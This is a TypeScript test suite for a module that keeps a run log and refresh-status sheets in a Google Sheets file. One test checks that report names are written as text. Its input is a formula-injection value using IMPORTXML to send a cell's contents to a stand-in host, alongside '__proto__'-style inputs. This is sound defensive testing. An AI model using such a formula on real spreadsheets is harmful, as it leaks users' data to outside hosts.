import { FakeClock } from '../../fakes/clock';
import { EmulatedSheets } from '../../fakes/sheets/emulated-sheets';
import { HOUR, type LogsOrder, loggedRun, logsOf, NOW, savedReport, withRows } from './file';

const STATUS = 'Refresh status';
const LOG = 'Run log';
const LOG_ID = 14;

const ORDER = {
  status: [savedReport('r1'), savedReport('r2', { name: 'Retention' })],
  newRuns: [loggedRun(2), loggedRun(1, { report: 'Retention' })],
} satisfies Partial<LogsOrder>;

function kept(order: Partial<LogsOrder> = ORDER) {
  const sheet = new EmulatedSheets();
  const clock = new FakeClock(NOW);
  const write = logsOf(sheet, clock);
  expect(write(order)).toEqual({
    logged: (order.newRuns ?? []).map(({ runId }) => runId),
    problems: [],
  });
  const rows = (title: string) => sheet.shown(title).slice(2);
  const column = (title: string, index: number) => rows(title).map((row) => row[index]);
  return { sheet, clock, write, rows, column };
}

describe('the logs of a file', () => {
  it('are two sheets, each with a line above the headers that describes it', () => {
    const { sheet, column } = kept();
    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, LOG]);
    expect(sheet.shown(STATUS)[0]![0]).toBe('Refresh status · times in Europe/Berlin');
    expect(sheet.shown(LOG)[0]).toEqual([
      'Run log · the last 500 runs, newest first · times in Europe/Berlin',
    ]);
    expect(column(STATUS, 0)).toEqual(['Report r1', 'Retention']);
    expect(column(LOG, 3)).toEqual(['Retention', 'Daily revenue']);
    expect(sheet.tab(LOG).rows[2]![0]!.format).toBe('yyyy-mm-dd hh:mm');
    expect(sheet.tab(STATUS).frozenRowCount).toBe(2);
  });

  it('change no cell when they are written again within an hour, not even in the line above the table', () => {
    const { sheet, clock, write } = kept();
    const before = sheet.snapshot();
    for (let nth = 0; nth < 10; nth++) {
      clock.pass(HOUR / 10);
      write(ORDER);
    }
    expect(sheet.batches).toHaveLength(2);
    expect(sheet.snapshot()).toEqual(before);
  });

  it('are written only where they differ', () => {
    const { sheet, write } = kept();
    write({ status: [withRows('r1', 121), ORDER.status[1]!], newRuns: [] });
    expect(sheet.batches).toHaveLength(3);
    const numbers = JSON.stringify(sheet.batches[2]).match(/numberValue|stringValue/g);
    expect(numbers).toHaveLength(1);
  });

  it('use a sheet that was renamed and moved, and make a deleted sheet again', () => {
    const { sheet, write, column } = kept();
    sheet.tab(STATUS).title = 'How it stands';
    sheet.moveTab(LOG, 0);
    write({ ...ORDER, status: [savedReport('r1', { name: 'Renamed' })] });
    expect(column('How it stands', 0)).toEqual(['Renamed']);
    sheet.removeTab(LOG);
    write({ ...ORDER, newRuns: [loggedRun(5)] });
    expect(column(LOG, LOG_ID)).toEqual(['run5']);
    sheet.removeTab(LOG);
    write({ ...ORDER, newRuns: [] });
    expect(sheet.shown(LOG)[1]![0]).toBe('Started');
  });

  it('leave a tab of the user with the same title alone', () => {
    const sheet = new EmulatedSheets();
    sheet.addTab(LOG, 7);
    sheet.enter(LOG, 0, 0, 'Marathon');
    logsOf(sheet)(ORDER);
    expect(sheet.shown(LOG)).toEqual([['Marathon']]);
    expect(sheet.shown('Run log 2')[2]![LOG_ID]).toBe('run1');
  });

  it("keep the user's columns with their rows, next to the table and between its columns", () => {
    const { sheet, write } = kept();
    sheet.enter(LOG, 3, 16, 'asked support');
    sheet.insert(LOG, 'COLUMNS', 4);
    sheet.enter(LOG, 3, 4, 'ticket 12');
    sheet.enter(STATUS, 3, 15, 'ask Bo');
    write({ status: [savedReport('r0'), ...ORDER.status], newRuns: [loggedRun(0)] });
    const log = sheet.shown(LOG);
    expect([log[4]![3], log[4]![4], log[4]![17]]).toEqual(['Daily revenue', 'ticket 12', 'asked support']);
    const status = sheet.shown(STATUS);
    expect([status[4]![0], status[4]![15]]).toEqual(['Retention', 'ask Bo']);
  });

  it('keep rows of the user in the columns of the table', () => {
    const { sheet, write, rows } = kept();
    sheet.enter(STATUS, 4, 0, 'Reports of Bo: see the other file');
    sheet.enter(LOG, 4, 0, 'Until here checked by Bo');
    write({ status: [savedReport('r3')], newRuns: [loggedRun(0)] });
    expect(rows(STATUS).map(([name]) => name)).toEqual(['Report r3', 'Reports of Bo: see the other file']);
    expect(rows(LOG)[3]).toEqual(['Until here checked by Bo']);
    const batches = sheet.batches.length;
    write({ status: [savedReport('r3')], newRuns: [loggedRun(0)] });
    expect(sheet.batches).toHaveLength(batches);
  });

  it('keep a formula of the user below the table', () => {
    const { sheet, write, rows } = kept();
    sheet.enter(STATUS, 4, 0, 'All');
    sheet.enter(STATUS, 4, 11, '=SUM(L3:L4)');
    write({ ...ORDER, status: [withRows('r1', 121), ORDER.status[1]!] });
    expect(sheet.tab(STATUS).rows[4]![11]!.formula).toBe('=SUM(L3:L4)');
    expect(rows(STATUS)[2]![11]).toBe(241);
  });

  it('keep rows where the user has moved them, and new rows below the row that precedes them', () => {
    const { sheet, write, column } = kept();
    for (const title of [STATUS, LOG]) {
      sheet.tab(title).edit((rows) => {
        [rows[2], rows[3]] = [rows[3]!, rows[2]!];
      });
    }
    write({ status: [...ORDER.status, savedReport('r3')], newRuns: [loggedRun(0)] });
    expect(column(LOG, LOG_ID)).toEqual(['run2', 'run1', 'run0']);
    expect(column(STATUS, 14)).toEqual(['r2', 'r3', 'r1']);
  });

  it('contain names as texts, even if they look like formulas', () => {
    const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
    const { sheet, column } = kept({
      status: [savedReport('r1', { name }), savedReport('__proto__', { name: '+1' })],
      newRuns: [loggedRun(1, { report: name, runId: 'constructor' })],
    });
    expect(column(STATUS, 0)).toEqual([name, '+1']);
    expect(column(LOG, 3)).toEqual([name]);
    const written = JSON.stringify(sheet.batches);
    expect(written.match(/formulaValue/g)).toHaveLength(1);
    expect(written).toContain(JSON.stringify({ stringValue: name }));
  });

  it('are written for one sheet if Google refuses to change the other, and a sentence says which', () => {
    const sheet = new EmulatedSheets();
    sheet.beforeAndAfter = (batch) => {
      if (batch === 0) throw new Error('You are trying to edit a protected cell or object.');
    };
    const { problems, logged } = logsOf(sheet)(ORDER);
    expect(problems).toEqual([
      'Refresh status: Google does not let the user of this run change the sheet, because it is protected. Nothing was written; the rows in the sheet are as they were. Ask the owner of the file to allow it (Data ▸ Protect sheets and ranges), then run again.',
    ]);
    expect(logged).toEqual(['run2', 'run1']);
    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', LOG]);
  });

  it('are not written while another execution has the lock', () => {
    const sheet = new EmulatedSheets();
    const order = { ...ORDER };
    expect(logsOf(sheet, new FakeClock(NOW), () => false)(order)).toEqual({
      logged: [],
      problems: [],
    });
    expect(sheet.reads).toEqual([]);
    expect(sheet.batches).toEqual([]);
  });

  it('are complete after the next update if Google ended an execution before or after any write', () => {
    const whole = kept().sheet;
    const values = (sheet: EmulatedSheets) => [STATUS, LOG].map((title) => sheet.shown(title));
    for (const [batch, done] of [0, 1].flatMap((nth) =>
      [false, true].map((after) => [nth, after] as const),
    )) {
      const sheet = new EmulatedSheets();
      sheet.beforeAndAfter = (nth, isDone) => {
        if (nth === batch && isDone === done) throw new Killed();
      };
      try {
        logsOf(sheet)(ORDER);
      } catch (error) {
        if (!(error instanceof Killed)) throw error;
      }
      sheet.beforeAndAfter = () => {};
      logsOf(sheet)(ORDER);
      expect(values(sheet)).toEqual(values(whole));
    }
  });
});

class Killed extends Error {}

describe('the status sheet when no code runs any more', () => {
  function opened(status: LogsOrder['status']) {
    const sheets = new EmulatedSheets();
    let now = NOW;
    sheets.store.now = () => now;
    logsOf(sheets)({ status });
    return {
      sheets,
      saysAfter: (hours: number) => {
        now = NOW + hours * HOUR;
        return sheets.shown("'Refresh status'!D1:D1")[0]?.[0] ?? '';
      },
    };
  }

  it('shows for how many days no hourly check has run', () => {
    const { saysAfter } = opened([savedReport('r1'), savedReport('r2', { lastChecked: NOW - 30 * HOUR })]);
    const message = [0, 23, 25, 46, 71].map(saysAfter);
    const words = (days: number) =>
      `Days without a check: ${days}. The numbers may be old: open Ad Reports ▸ Open.`;
    expect(message).toEqual(['', '', words(1), words(2), words(3)]);
  });

  it('shows nothing if no report is scheduled', () => {
    expect(opened([savedReport('r1', { nextRun: null })]).saysAfter(900)).toBe('');
    expect(opened([]).saysAfter(900)).toBe('');
  });

  it('includes rows that were inserted above the first, and stays as the user has changed it', () => {
    const { sheets, saysAfter } = opened([savedReport('r1')]);
    const later = { lastChecked: NOW + 70 * HOUR };
    logsOf(sheets)({ status: [savedReport('r0', later), savedReport('r1')] });
    expect(saysAfter(71)).toBe('');
    sheets.type("'Refresh status'!D1", [['mine']]);
    logsOf(sheets)({ status: [savedReport('r7', later)] });
    expect(saysAfter(0)).toBe('mine');
  });
});
